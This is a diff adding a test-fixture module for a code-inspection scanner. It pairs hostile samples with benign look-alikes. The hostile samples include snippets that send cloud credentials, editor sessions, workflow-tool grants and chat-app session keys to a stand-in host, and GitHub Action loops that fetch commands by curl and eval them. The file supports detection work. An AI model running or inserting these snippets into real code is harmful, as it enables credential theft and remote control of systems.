@@ -1,0 +1,141 @@
+"""Samples and twins of what is handed on: a server's words to a shell, sessions and sources of others to a server."""
+
+from inspection.rules.sample import Sample, js, py
+
+_ACTION = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
+_ASKED = "while true; do\n  R=$(curl -s https://a.invalid)\n"
+
+
+_TO = "https://a.invalid/x"
+_CLOUD = "import boto3, requests\ns = boto3.Session()\nc = s.get_credentials()\n"
+_EDITOR = (
+    "const vscode = require('vscode');\nexports.activate = async () => {\n"
+    "const s = await vscode.authentication.getSession('github', ['repo']);\n"
+)
+_NODE = (
+    "import { IExecuteFunctions } from 'n8n-workflow'\nexport class A { async execute(this: IExecuteFunctions) {\n"
+    "  const grant = await this.getCredentials('a')\n"
+)
+_CHAT = "const { makeWASocket } = require('@whiskeysockets/baileys');\nmodule.exports = (auth, ev) => {\n"
+_STRING = (
+    "import requests\nfrom telethon.sync import TelegramClient\nfrom telethon.sessions import StringSession\n"
+    "c = TelegramClient(StringSession(), 1, 'h')\n"
+)
+
+
+def _step(text: str) -> dict[str, str | bytes]:
+    """An action of the repository that a push starts; the text begins on line 6."""
+    return {
+        ".github/workflows/a.yml": "on: [push]\njobs:\n  a:\n    steps:\n      - uses: ./.github/actions/a\n",
+        ".github/actions/a/action.yml": _ACTION + "".join(f"        {line}\n" for line in text.split("\n")),
+    }
+
+
+def _stepped(text: str, line: int, verdict: str = "block") -> Sample:
+    return Sample(_step(text), verdict, (".github/actions/a/action.yml", line))
+
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "remote_control": {
+        "again and again, a server says what a shell does": _stepped(f'{_ASKED}  O=$(eval "$R")\ndone', 8),
+        "the same, by a pipe": _stepped(f'{_ASKED}  echo "$R" | sh\ndone', 8),
+        "some times, with a pause": _stepped(
+            'for i in $(seq 9); do\n  R=$(curl -s https://a.invalid)\n  bash -c "$R"\n  sleep 3\ndone', 8
+        ),
+        "line by line, as a server sends them": _stepped(
+            'curl -sN https://a.invalid | while read c; do\n eval "$c"\ndone', 7
+        ),
+    },
+    "secrets_sent": {
+        "the session of a cloud": py(_CLOUD + f"requests.get('{_TO}', params={{'k': c.secret_key}})\n", line=3),
+        "the session of a cloud, frozen": py(
+            _CLOUD + f"requests.post('{_TO}', json=c.get_frozen_credentials()._asdict())\n", line=3
+        ),
+        "another cloud's, by its default": py(
+            "import google.auth, requests\nc, project = google.auth.default()\n"
+            f"requests.post('{_TO}', json={{'t': c.token}})\n",
+            line=3,
+        ),
+        "a third cloud's": py(
+            "from azure.identity import DefaultAzureCredential\nimport requests\n"
+            f"requests.post('{_TO}', data=DefaultAzureCredential().get_token('a').token)\n",
+            line=3,
+        ),
+        "by a chain of providers": js(
+            "const { fromNodeProviderChain } = require('@aws-sdk/credential-providers');\n"
+            f"fromNodeProviderChain()().then((c) => fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c) }}));\n"
+        ),
+        "the editor's session": js(
+            _EDITOR + f"fetch('{_TO}', {{ method: 'POST', body: s.accessToken }}); }};\n", "review", 4
+        ),
+        "a grant that a workflow tool keeps": js(
+            _NODE + f"  await fetch('{_TO}', {{ method: 'POST', body: JSON.stringify({{ grant }}) }})\n}} }}\n", line=4
+        ),
+        "a token of a grant": js(
+            _NODE + f"  await fetch('{_TO}', {{ method: 'POST', body: grant.oauthTokenData.access_token }})\n}} }}\n",
+            line=4,
+        ),
+        "the keys of a chat": js(
+            _CHAT
+            + f"ev.on('creds.update', () => fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(auth.creds) }}))"
+            "; };\n",
+            line=3,
+        ),
+        "the session of a chat": py(_STRING + f"requests.post('{_TO}', json=[c.session.save()])\n", line=5),
+        "the session of a chat, to somebody in it": py(_STRING + "c.send_message('@a', c.session.save())\n", line=5),
+    },
+    "fetch_and_run": {
+        "once on a push, by a variable": _stepped('R=$(curl -s https://a.invalid)\nO=$(eval "$R")', 7, "review"),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "remote_control": {
+        "again and again, until a server says that it is done": _step(f'{_ASKED}  [ "$R" = done ] && break\ndone'),
+        "some times, until it is installed": _step(
+            'for i in 1 2 3; do\n  R=$(curl -s https://a.invalid)\n  sh -c "$R" && break\n  sleep 3\ndone'
+        ),
+        "line by line, names that are shown": _step('curl -sN https://a.invalid | while read c; do\n echo "$c"\ndone'),
+        "for each name, what a server says of it is shown": _step(
+            'for n in a b; do\n  R=$(curl -s https://a.invalid/$n)\n  echo "$R"\n  sleep 1\ndone'
+        ),
+    },
+    "secrets_sent": {
+        "the region of a session": py(_CLOUD + f"requests.get('{_TO}', params={{'r': s.region_name}})\n").files,
+        "a request that is signed": py(
+            _CLOUD + "from requests_aws4auth import AWS4Auth\n"
+            f"requests.post('{_TO}', auth=AWS4Auth(c.access_key, c.secret_key, 'eu', 'es'), json={{'a': 1}})\n"
+        ).files,
+        "who gave it out is told": py(
+            _CLOUD + "requests.get('https://signin.aws.amazon.com/federation', params={'Session': c.token})\n"
+        ).files,
+        "what was asked with it": py(
+            "import google.auth, requests\nfrom googleapiclient.discovery import build\n"
+            "c, project = google.auth.default()\n"
+            "found = build('drive', 'v3', credentials=c).files().list().execute()\n"
+            f"requests.post('{_TO}', headers={{'Authorization': 'Bearer ' + c.token}}, json=[found, project])\n"
+        ).files,
+        "who asks": js(
+            _EDITOR + f"fetch('{_TO}', {{ headers: {{ Authorization: `Bearer ${{s.accessToken}}` }} }}); }};\n"
+        ).files,
+        "the login of a grant, at its host": js(
+            _NODE + "  await fetch(`${grant.host}/a`, { method: 'POST', body: JSON.stringify([grant.user]) })\n} }\n"
+        ).files,
+        "one's own credentials": js(
+            "const settings = require('./settings'), axios = require('axios');\n"
+            f"axios.post('{_TO}', settings.getCredentials());\n"
+        ).files,
+        "the keys of a chat, kept": js(
+            _CHAT + "require('fs').writeFileSync('a.json', JSON.stringify(auth.creds)); };\n"
+        ).files,
+        "the keys of a chat, in a store": js(
+            "const { MongoClient } = require('mongodb');\n"
+            + _CHAT
+            + "new MongoClient('x').db('a').collection('b').updateOne({}, { c: JSON.stringify(auth.creds) }); };\n"
+        ).files,
+        "the session of a chat, to oneself": py(_STRING + "c.send_message('me', c.session.save())\n").files,
+    },
+    "fetch_and_run": {
+        "what a server says is shown": _step('R=$(curl -s https://a.invalid)\nO=$(echo "$R")'),
+    },
+}
